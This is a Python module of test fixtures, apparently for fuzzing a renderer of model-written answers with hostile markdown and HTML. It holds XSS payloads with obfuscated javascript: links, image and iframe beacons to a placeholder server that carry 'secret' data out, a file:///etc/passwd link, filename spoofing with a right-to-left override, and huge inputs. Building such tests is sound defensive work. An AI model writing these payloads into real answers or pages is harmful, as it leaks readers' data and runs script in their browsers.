"""Texts that a model could be made to write, or a person could type, to do something on the page of who reads them."""

from __future__ import annotations

import random

FRAGMENTS = (
    *("`", "``", "```", "~~~", "*", "**", "_", "~~", "|", "|-|-|\n", "\\", "\n", "\n\n", "  ", "    ", "\t", "\r"),
    *("- ", "1. ", "3) ", "> ", "#", "# ", "---", "===", "* * *", "\n   ", "\n\t", "a", "b c", "word", "\x00"),
    *("![x](http://evil.example/i.png)", "[a](javascript:alert(1))", "[a](<http://ok.example/a b>)", "![]()", "[](b)"),
    *("[", "](", "!", ")", "]", "<b>", "<img src=http://evil.example/j.png>", "<http://ok.example/>", "<!--", "-->"),
    *("&#32;", "&#96;", "&#33;&#91;", "&#124;", ":red[", "$$", ":x:", "{a=b}", "[r]: http://evil.example/d\n"),
    *("\\|", "`|`", "`\\|", "```mermaid\n", "https://evil.example/e", "www.evil.example", "a@evil.example"),
)

ARABIC = "نص عربي للتجربة"


def made_of_fragments(draw: random.Random) -> str:
    """Put some together."""
    return "".join(draw.choice(FRAGMENTS) for _ in range(draw.randint(3, 40)))


def labels(beacon: str) -> list[str]:
    """Short texts; `beacon` is the address of a server that must not hear of them."""
    return [
        "<script>alert(1)</script>",
        f"<img src={beacon}/a.png onerror=alert(1)>",
        f"![x]({beacon}/b.png)",
        "[click](javascript:alert(1))",
        "# heading :red[red] $x^2$ :material/home: :streamlit: :smile:",
        "\u202egnp.exe " + ARABIC,
        "a -> b -- c >= d",
        "word" * 60,
    ]


def answers(beacon: str) -> list[str]:
    """Answers as a model writes them, and as it does not."""
    return [
        *labels(beacon),
        f"Text before.\n\n![beacon]({beacon}/1.png?q=secret)\n![by name][i]\n\n[i]: {beacon}/2.png\n",
        f'<img src="{beacon}/3.png"><iframe src="{beacon}/4"></iframe><svg onload=alert(1)>',
        f"<video src={beacon}/5.mp4 autoplay></video><link rel=stylesheet href={beacon}/6.css>",
        f"[![image in a link]({beacon}/7.png)]({beacon}/8)",
        "[a](JaVaScRiPt:alert(1)) [b](java&#115;cript:alert(1)) [c](javascript&colon;alert(1))",
        "[d](<java\tscript:alert(1)>) [same as before](<\x01javascript:alert(1)>)",
        "[e](data:text/html,<script>alert(1)</script>) [f](vbscript:x) [g](file:///etc/passwd) [h](//evil.example/x)",
        "<javascript:alert(1)> <data:text/html,x> [i][j] [^1]\n\n[j]: javascript:alert(1)\n[^1]: javascript:alert(1)",
        "<!-- hidden words --> [page](guide/page.md) mail@evil.example www.evil.example https://evil.example/bare",
        "$$\\href{javascript:alert(1)}{x}$$ and $\\includegraphics{x}$ \\(y\\)",
        "::leaf[x]{onclick=alert(1)}\n\n:::block\ntext\n:::\n\n:color[x]{foreground=red} :badge[y] :help[z]",
        f"```mermaid\ngraph TD; A[<img src={beacon}/9.png>]-->B\n```\n\n```math\nx^2\n```",
        f"````\n```\n![in a fence]({beacon}/10.png)\n```\n````\n\n```\nnever closed\n![x]({beacon}/11.png)",
        f"``![x]({beacon}/12.png)``![]()`b`",
        f"| a | b |\n| - | - |\n| `\\\\|![x]({beacon}/13.png)` | <b>c</b> |",
        "| "
        + " | ".join(f"column {number}" for number in range(30))
        + " |\n"
        + "| - " * 30
        + "|\n"
        + "| word " * 30
        + "|",
        "x" * 100_000,
        "`" + "y" * 3_000 + "`\n\n```\n" + "z" * 3_000 + "\n```\n\n" + "**" + "w" * 3_000 + "**",
        ">" * 10_000,
        "- " * 5_000 + "deep",
        f"{ARABIC}\n\n- {ARABIC} (123) abc\n- \u2067{ARABIC}\u2069",
        "nul \x00 escape \x1b[2J surrogate \ud800 next\x85line\u2028end",
    ]
